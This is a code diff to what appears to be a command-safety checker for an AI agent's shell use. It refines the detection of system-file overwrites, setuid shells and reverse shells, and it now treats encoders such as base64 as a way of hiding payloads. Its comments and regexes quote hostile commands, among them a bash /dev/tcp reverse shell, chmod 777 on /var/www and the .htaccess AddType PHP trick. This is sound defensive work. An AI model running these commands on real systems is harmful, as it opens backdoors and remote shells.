@@ -49,10 +49,19 @@ from .findings import static_args as _values
 from .git_settings import GLOBAL_VALUES as GIT_GLOBAL_VALUES
 from .git_settings import exported_statements
 from .git_settings import settings as git_settings
-from .interpreters import AWKS, INTERPRETERS, SHELL_ESCAPE, fed_code, inline_code, judge_code, written_paths
+from .interpreters import (
+    AWKS,
+    INTERPRETERS,
+    SHELL_ESCAPE,
+    fed_code,
+    inline_code,
+    judge_code,
+    runs_scripts,
+    written_paths,
+)
 from .locations import top_level_file, written
 from .operands import block_device, system_file
-from .parse import UNKNOWN_PART, Function, Script, ansi_c, one_reread_bound, parse, parsed
+from .parse import UNKNOWN_PART, WRITE_OPERATORS, Function, Script, ansi_c, one_reread_bound, parse, parsed
 from .paths import normalize_path
 from .policy import Policy, current_policy, hold, in_argument, using
 from .programs import (
@@ -207,8 +216,30 @@ def _firm(verdict: Verdict) -> bool:
 
 def _strictest(*verdicts: Verdict | None) -> Verdict | None:
     """The first of ``verdicts`` the policy blocks, else the first one found."""
-    found = [verdict for verdict in verdicts if verdict is not None]
-    return next((verdict for verdict in found if _firm(verdict)), found[0] if found else None)
+    return _strictest_of(verdicts)
+
+
+def _strictest_of(verdicts: Iterable[Verdict | None]) -> Verdict | None:
+    """The first of ``verdicts`` the policy blocks (none after it is made), else the first one found."""
+    held = None
+    for verdict in verdicts:
+        if verdict is not None and _firm(verdict):
+            return verdict
+        held = held or verdict
+    return held
+
+
+def _overwrites(invocation: Invocation, target: str, home: str) -> Verdict | None:
+    """``invocation`` writing over ``target``, when that is a system file or another protected one."""
+    found = _written(target, home, invocation.cwd)
+    return _verdict(found[0], invocation, f"overwrites {found[1]}") if found else None
+
+
+def _writes_onto(invocation: Invocation, target: str, home: str) -> Verdict | None:
+    """:func:`_overwrites`, or ``target`` a block device written straight to."""
+    if _block_device(target):
+        return _verdict(DISK, invocation, f"writes straight to the block device {target}")
+    return _overwrites(invocation, target, home)
 
 
 def _block_device(word: str) -> bool:
@@ -362,15 +393,7 @@ def _copy_target(invocation: Invocation, home: str) -> Verdict | None:
         # cp -r ./fake-etc/. /etc/, rsync -a overlay/ /etc/: a tree copied over the configuration.
         return _verdict(SYSTEM_FILES, invocation, f"copies a directory tree over {target}")
     candidates = [target] + [f"{target.rstrip('/')}/{s.rstrip('/').rsplit('/', 1)[-1]}" for s in sources]
-    held = None
-    for candidate in candidates:
-        found = _written(candidate, home, invocation.cwd)
-        if found:
-            verdict = _verdict(found[0], invocation, f"overwrites {found[1]}")
-            if _firm(verdict):
-                return verdict
-            held = held or verdict
-    return held
+    return _strictest_of(_overwrites(invocation, candidate, home) for candidate in candidates)
 
 
 def _writes_files(invocation: Invocation, home: str) -> Verdict | None:
@@ -400,17 +423,7 @@ def _system_file_written(invocation: Invocation, home: str) -> Verdict | None:
     elif name in _DOWNLOADERS:
         fetched = download(invocation)
         targets = list(fetched.files) if fetched is not None else []
-    held = None
-    for target in targets:
-        if _block_device(target):
-            return _verdict(DISK, invocation, f"writes straight to the block device {target}")
-        found = _written(target, home, invocation.cwd)
-        if found:
-            verdict = _verdict(found[0], invocation, f"overwrites {found[1]}")
-            if _firm(verdict):
-                return verdict
-            held = held or verdict
-    return held
+    return _strictest_of(_writes_onto(invocation, target, home) for target in targets)
 
 
 def _dd(invocation: Invocation, home: str) -> Verdict | None:
@@ -489,7 +502,7 @@ def _chmod(invocation: Invocation, home: str) -> Verdict | None:
             # chmod 777 /var/www: every local user (and every compromised service) may now write there.
             return _verdict(PERMISSIONS, invocation, f"chmod {mode} makes {target} writable by every user")
         base = target.rsplit("/", 1)[-1]
-        if _SETUID.search(mode) and (base in SHELLS or _INTERPRETERS.match(base)):
+        if _SETUID.search(mode) and runs_scripts(base):
             return _verdict(PERMISSIONS, invocation, f"makes {target} a setuid shell (a root backdoor)")
     return None
 
@@ -656,9 +669,7 @@ def _receiving_listener(stages: list[Invocation]) -> Invocation | None:
         return None
     if any(_LOOPBACK_ADDRESS.match(v) for v in values):
         return None
-    written = any(
-        r.op in (">", ">>", ">|", "&>", "&>>") and r.fd in ("", "1") for r in invocation.command.redirects
-    )
+    written = any(r.op in WRITE_OPERATORS and r.fd in ("", "1") for r in invocation.command.redirects)
     return invocation if written or len(stages) > 1 else None
 
 
@@ -1051,7 +1062,6 @@ def _judge_code(code: str, invocation: Invocation, home: str, *, how: str, piece
     return Verdict(danger.category, piece or _piece(invocation.text), f"{danger.why}, {how}")
 
 
-_WRITES = frozenset({">", ">>", ">|", "&>", "&>>"})
 _SHELL_CALLS = lazy_compile(
     r"\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|os\.system|subprocess\.\w+)\s*\(\s*"
     r"(?:\[\s*)?(['\"])((?:\\.|(?!\1)[^\\\n]){1,2000})\1",
@@ -1070,12 +1080,21 @@ _CODE_HANDLER = lazy_compile(
 """An Apache directive that has files run as PHP (``AddType application/x-httpd-php .jpg``, often in an
 ``.htaccess`` uploaded beside an image): for any other extension than PHP's own, the upload runs as code."""
 _PHP_EXTENSIONS = frozenset({"php", "php3", "php4", "php5", "php7", "php8", "phtml", "phar", "phps", "inc"})
+_ENCODERS = frozenset(
+    {"base64", "base32", "basenc", "xxd", "od", "hexdump", "gzip", "bzip2", "xz", "zstd", "rev"}
+)
+"""Programs that encode what is piped in: a remote shell encoded is a payload made to pass a filter."""
 _PYTHON_TEXT = lazy_compile(r"^\s*(?:import|from)\s+[\w.]+|\bsocket\.socket\s*\(")
 _MAX_WRITTEN = 20_000
 """The longest written text read for a reverse shell (a longer one is judged where it is run)."""
 _WHOLE_TEXT = 1_000
-"""A written text up to this size is judged whole as shell code; a longer one by its hinted lines."""
+"""A written text up to this size (and :data:`_MAX_HINTED_LINES` lines) is judged whole as shell code; a
+longer one by its hinted lines."""
 _MAX_HINTED_LINES = 16
+_LINES_AFTER_HINT = 2
+"""How many unhinted lines after a hinted one are judged with it (``exec 3<>/dev/tcp/…`` then ``sh <&3``)."""
+_MAX_JUDGED_LINES = 2 * _MAX_HINTED_LINES
+"""How many lines of a long written text are judged at the most (hinted lines and the lines after them)."""
 _REMOTE_SHELL_HINT = lazy_compile(
     r"/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat|socat|telnet|ztcp|mkfifo|s_client)\b|socket|TCPSocket|fsockopen"
     r"|-display\b",
@@ -1086,6 +1105,33 @@ text without any of them is not read further, so writing a file costs one scan o
 _reading_written: contextvars.ContextVar[bool] = contextvars.ContextVar(
     "agentbus_reading_written", default=False
 )
+
+
+def _shell_pieces(text: str) -> list[str]:
+    """The shell code a written text is judged by. A short text whole (a payload spread over lines:
+    ``exec 5<>/dev/tcp/…`` on one, ``cat <&5 | sh`` on the next); a longer one by its hinted lines, each
+    with the unhinted lines just after it (where a socket or a pipe opened on one line is used), up to
+    :data:`_MAX_JUDGED_LINES` lines in all: a text of eighty ``nc -z`` checks costs a few lines'
+    judgement, not its whole length's. ``\\n`` is read as a line break too, as dash's echo writes it."""
+    lines = text.replace("\\n", "\n").splitlines()
+    if len(text) <= _WHOLE_TEXT and len(lines) <= _MAX_HINTED_LINES:
+        joined = "\n".join(lines)  # the same text but for a final newline: judged once
+        return [text] if joined == text.rstrip("\n") else [text, joined]
+    pieces: list[str] = []
+    budget = _MAX_JUDGED_LINES
+    for index, line in enumerate(lines):
+        if budget <= 0 or len(pieces) == _MAX_HINTED_LINES:
+            break
+        if len(line) > _WHOLE_TEXT or not _REMOTE_SHELL_HINT.search(line):
+            continue
+        after = itertools.takewhile(
+            lambda later: len(later) <= _WHOLE_TEXT and not _REMOTE_SHELL_HINT.search(later),
+            lines[index + 1 : index + 1 + min(_LINES_AFTER_HINT, budget - 1)],
+        )
+        piece = [line, *after]
+        pieces.append("\n".join(piece))
+        budget -= len(piece)
+    return pieces
 
 
 def _written_backdoor(invocation: Invocation, home: str, fed: str | None = None) -> Verdict | None:
@@ -1100,9 +1146,11 @@ def _written_backdoor(invocation: Invocation, home: str, fed: str | None = None)
         values = _values(invocation)
         targets = [v for v in values if not v.startswith("-")]
         text = "\n".join(fed_code(invocation)) or fed or None
+    elif invocation.name in _ENCODERS:  # echo 'bash -i >& /dev/tcp/IP/4444 0>&1' | base64: a payload made
+        targets, text = [f"{invocation.name}'s encoded output"], fed
     else:
         command = invocation.command
-        targets = [command.static(r.target) or "" for r in command.redirects if r.op in _WRITES]
+        targets = [command.static(r.target) or "" for r in command.redirects if r.op in WRITE_OPERATORS]
         text = written_text(invocation) if any(targets) else None
     if not text or len(text) > _MAX_WRITTEN or _reading_written.get():
         return None
@@ -1121,14 +1169,8 @@ def _written_backdoor(invocation: Invocation, home: str, fed: str | None = None)
             return _verdict(BACKDOOR, invocation, why)
     if not _REMOTE_SHELL_HINT.search(text):
         return None
-    if _PYTHON_TEXT.search(text):  # Python's socket code, judged as the interpreter's (not as shell lines)
-        pieces = [f"python3 -c {shlex.quote(text)}"]
-    else:
-        # a short text whole (a payload spread over lines); a long one by the lines that hold a hint
-        lines = text.replace("\\n", "\n").splitlines()  # \n: as dash's echo (and echo -e) writes it
-        hinted = [line for line in lines if len(line) <= _WHOLE_TEXT and _REMOTE_SHELL_HINT.search(line)]
-        hinted = hinted[:_MAX_HINTED_LINES]
-        pieces = list(dict.fromkeys([text, "\n".join(lines)])) if len(text) <= _WHOLE_TEXT else hinted
+    # Python's socket code is judged as the interpreter's (not as shell lines)
+    pieces = [f"python3 -c {shlex.quote(text)}"] if _PYTHON_TEXT.search(text) else _shell_pieces(text)
     calls = (re.sub(r"\\(.)", r"\1", m.group(2)) for m in _SHELL_CALLS.finditer(text))
     pieces += [code for code in calls if _REMOTE_SHELL_HINT.search(code)][:_MAX_HINTED_LINES]
     token = _reading_written.set(True)
@@ -1694,7 +1736,7 @@ class _Sockets:
                         return _verdict(BACKDOOR, invocation, why)
                 continue
             computed = invocation.dynamic or name.startswith("$") or name in ("eval", "source", ".")
-            if fds and (name in SHELLS or _INTERPRETERS.match(name) or computed):
+            if fds and (runs_scripts(name) or computed):
                 peer = self.opened[fds[0]]
                 what = name or "a computed command"
                 why = f"connects {what} to the network connection {peer} (descriptor {fds[0]})"
@@ -2139,7 +2181,7 @@ def _check_one(
         text = written_text(invocation) if invocation.name in _TEXT_SOURCES else None
         found = device_rules.settled(_check_redirects(invocation, home), text, invocation)
         verdict = findings.blocks(in_place(invocation, found), "redirect rule", perhaps)
-    if verdict is None and fed is not None and invocation.name == "tee":
+    if verdict is None and fed is not None and (invocation.name == "tee" or invocation.name in _ENCODERS):
         found = _written_backdoor(invocation, home, fed)  # echo CMD | tee FILE: what tee writes
         verdict = findings.blocks(in_place(invocation, found), "written-text rule", perhaps)
     for judge in tactics.judges(invocation):
